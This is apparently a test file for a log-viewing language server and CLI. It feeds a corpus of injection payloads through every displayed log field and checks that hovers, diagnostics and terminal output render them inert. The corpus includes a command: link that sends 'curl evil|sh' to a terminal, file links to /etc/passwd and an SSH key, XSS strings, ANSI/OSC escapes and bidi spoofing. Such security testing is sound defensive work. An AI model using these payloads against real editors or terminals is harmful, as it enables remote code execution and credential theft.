// Nothing runs, nothing leaks: a corpus of markdown/HTML injections, `command:`/`file:` links and
// terminal escape sequences placed in every log field the tool shows (group keys, causes, error
// messages, dataset names, prompts, file names). Hovers are rendered by a real CommonMark renderer
// (markdown-it, raw HTML and linkify on) and must produce no link, image or tag of their own;
// diagnostics carry no raw control characters; the CLI's text output is terminal-safe and its JSON
// valid, with the log text intact inside it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Diagnostic, Hover, MarkupContent } from 'vscode-languageserver-protocol';

import { CATALOG } from '../../server/src/core/vocabulary/catalog';
import { type Harness, withHarness } from '../lsp/harness';
import { firstUnsafe } from './contract';
import { cliJson, runCli, tempDir } from './helpers';

type Renderer = { render(src: string): string };
// markdown-it is a devDependency; the language-server tests use it too.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const md = (require('markdown-it') as (options: object) => Renderer)({ html: true, linkify: true });

export const CORPUS: string[] = [
  '[click](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[x](command:rolloutLens.applyFix)',
  '<command:workbench.action.reloadWindow>',
  '[ref]\n\n[ref]: command:foo',
  '[local](file:///etc/passwd)',
  'file:///etc/passwd',
  '<file:///root/.ssh/id_rsa>',
  '![img](https://evil.example/p.png)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe src="javascript:alert(1)">',
  '<a href="command:x">a</a>',
  '[js](javascript:alert(1))',
  '[d](data:text/html;base64,PHNjcmlwdD4=)',
  'https://evil.example/steal?t=1',
  'www.evil.example',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x&#62;',
  '```\n**not code**\n```',
  '~~~\nfence\n~~~',
  '`` ` ``',
  '`starts and ends with a backtick`',
  '```` four, ``` three, `` two [x](command:y)',
  ' ` <img src=x onerror=alert(1)> ` ',
  '`<a href="command:x">a</a>`',
  '# Heading\n---\n| a | b |\n|---|---|',
  '*emphasis* __strong__ ~~strike~~',
  '<!-- hidden -->visible',
  '\\[escaped\\](command:x)',
  '\u001b[31mRED\u001b[0m',
  '\u001b[2J\u001b[Hscreen cleared',
  '\u001b]0;window title\u0007',
  '\u001b]8;;file:///etc/passwd\u0007click\u001b]8;;\u0007',
  'safe\b\b\b\bevil',
  'ok\rFAKE',
  '\u009b31mC1 CSI',
  'bidi \u202eevil.exe\u202c',
  'zero\u200bwidth\u2060joiner',
  'NUL\u0000byte',
  'line\u2028separator',
  '\nrun/x.jsonl:1:1: error invalid-json: injected finding',
  'x'.repeat(5000),
];

/** A miles eval-trials line and a miles rollout sample carrying `p` in every shown field. */
function trial(p: string, k: number, aborted: boolean): string {
  return JSON.stringify({
    instance_id: `inst ${p}`,
    trial_idx: k,
    status_code: aborted ? -1 : 0,
    elapsed_sec: 1.5,
    reward: aborted ? null : k % 2,
    exit_status: aborted ? p : 'Submitted',
    error: aborted ? `Traceback: ${p}` : null,
    dataset: `ds ${p}`,
    agent_metrics: {},
    eval_report: {},
  });
}
function sample(p: string, g: number, k: number, aborted: boolean): string {
  return JSON.stringify({
    group_index: g,
    index: g * 2 + k,
    prompt: p,
    response: aborted ? '' : p,
    response_length: aborted ? 0 : 3,
    tokens: [1],
    status: aborted ? 'aborted' : 'completed',
    reward: aborted ? null : 1.0,
    metadata: { exit_status: p, error: p, message: p },
  });
}

function files(dir: string): { trials: string; rollout: string } {
  const trials = CORPUS.flatMap((p) => [trial(p, 0, true), trial(p, 1, false)]);
  const rollout = CORPUS.flatMap((p, g) => [sample(p, g, 0, true), sample(p, g, 1, false)]);
  mkdirSync(join(dir, 'run'), { recursive: true });
  writeFileSync(join(dir, 'run', 'trials.jsonl'), `${trials.join('\n')}\n`);
  writeFileSync(join(dir, 'run', 'rollout_1.jsonl'), `${rollout.join('\n')}\n`);
  return { trials: `${trials.join('\n')}\n`, rollout: `${rollout.join('\n')}\n` };
}

const ALLOWED_TAGS = new Set(['p', 'strong', 'em', 'code', 'pre', 'ul', 'li', 'br']);
/** Controls and direction marks that must never reach an editor or a terminal raw. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u2028\u2029]/;

function assertInertMarkdown(source: string, where: string): void {
  assert.equal(RAW_CONTROL.exec(source), null, `${where}: a raw control character in the markdown`);
  const html = md.render(source);
  for (const m of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)\b[^>]*>/g)) {
    assert.ok(ALLOWED_TAGS.has(m[1].toLowerCase()), `${where}: the log text made a <${m[1]}> element: ${m[0]}`);
    assert.doesNotMatch(m[0], /\s(href|src|on\w+)=/i, `${where}: ${m[0]}`);
  }
}

/** One server on `dir`'s files (files()): the eval trials and the rollout log opened in turn, `each` called with each one's diagnostics. */
async function withLogsOpen(dir: string, each: (h: Harness, name: string, uri: string, diagnostics: Diagnostic[]) => Promise<void>): Promise<void> {
  const text = files(dir);
  await withHarness({ workspaceFolders: [dir] }, async (h) => {
    for (const [name, body] of [
      ['trials.jsonl', text.trials],
      ['rollout_1.jsonl', text.rollout],
    ] as const) {
      const uri = pathToFileURL(join(dir, 'run', name)).href;
      await each(h, name, uri, await h.openAndWait(uri, body));
    }
  });
}

test(`hovers (${CORPUS.length} payloads × instance id, cause, error text, dataset, prompt, group members; eval and rollout logs): rendered by markdown-it with HTML and linkify on, no link, image or tag comes from the log, no raw control character`, async (t) => {
  let hovers = 0;
  await withLogsOpen(tempDir(t), async (h, name, uri) => {
    for (let line = 0; line < CORPUS.length * 2; line++) {
      const hover = (await h.client.sendRequest('textDocument/hover', { textDocument: { uri }, position: { line, character: 5 } })) as Hover | null;
      if (!hover) continue; // not a sample (an instance id over 1024 bytes is an invalid record)
      const contents = hover.contents as MarkupContent;
      assert.equal(contents.kind, 'markdown');
      assert.deepEqual(Object.keys(hover).sort(), ['contents'], 'nothing but contents (no range tricks, no trust flags)');
      assertInertMarkdown(contents.value, `${name}:${line + 1}`);
      hovers++;
    }
  });
  // The 5000-character payload makes its instance id and exit status too long to be ids (invalid records, no hover).
  assert.ok(hovers >= CORPUS.length * 4 - 4, `${hovers} hovers`);
});

test(`diagnostics (${CORPUS.length} payloads in causes, dataset names, group keys): messages and related messages carry no raw control or direction character`, async (t) => {
  let checked = 0;
  await withLogsOpen(tempDir(t), async (_h, name, _uri, diags) => {
    for (const d of diags) {
      const message = String(d.message);
      assert.equal(RAW_CONTROL.exec(message), null, `${name}:${d.range.start.line + 1} ${d.code}: ${JSON.stringify(message.slice(0, 200))}`);
      for (const r of d.relatedInformation ?? []) assert.equal(RAW_CONTROL.exec(String(r.message)), null, JSON.stringify(String(r.message).slice(0, 200)));
      checked++;
    }
  });
  assert.ok(checked > CORPUS.length, `${checked} diagnostics checked`);
});

test(`CLI (${CORPUS.length} payloads in every field, and in a file name): text output has no raw control, escape or direction character and no line forged by the log; JSON output is valid and keeps the log text exactly`, (t) => {
  const dir = tempDir(t);
  files(dir);
  const evilName = 'evil\u001b]8;;file:\u2215\u2215etc\u0007name\u001b[2J\nrun:1:1: error x: forged.jsonl';
  writeFileSync(join(dir, 'run', evilName), `${sample('\u001b[31m', 0, 0, true)}\n`);
  const textOut = runCli(['check', 'run'], dir);
  assert.ok(textOut.status === 0 || textOut.status === 1, textOut.stderr);
  assert.equal(firstUnsafe(textOut.stdout), null, firstUnsafe(textOut.stdout) ?? '');
  assert.equal(firstUnsafe(textOut.stderr), null);
  const droppedLines = textOut.stdout.split('\n').filter((line) => line.includes(': warning group-dropped: '));
  for (const line of textOut.stdout.split('\n')) {
    assert.ok(!line.startsWith('run/x.jsonl:1:1') && !line.startsWith('run:1:1'), `a line forged by the log: ${line.slice(0, 120)}`);
  }
  const json = cliJson(['run'], dir);
  // One text line per finding: a newline in log text (or a file name) never starts a line of its own.
  assert.equal(droppedLines.length, json.doc.findings.filter((f) => f.code === 'group-dropped').length);
  assert.ok(droppedLines.length >= CORPUS.length);
  const codes = new Set(Object.keys(CATALOG));
  assert.ok(json.doc.findings.every((f) => codes.has(f.code)));
  const messages = json.doc.findings.map((f) => f.message).join('\n');
  const datasets = new Set(json.doc.findings.map((f) => f.dataset));
  for (const p of CORPUS.slice(0, 30))
    assert.ok(messages.includes(p) || datasets.has(`ds ${p}`), `log text kept exactly in the JSON: ${JSON.stringify(p.slice(0, 40))}`);
  assert.ok(
    json.doc.files.some((f) => f.path === `run/${evilName}`),
    'the hostile file name is reported as it is (JSON escapes it)',
  );
});
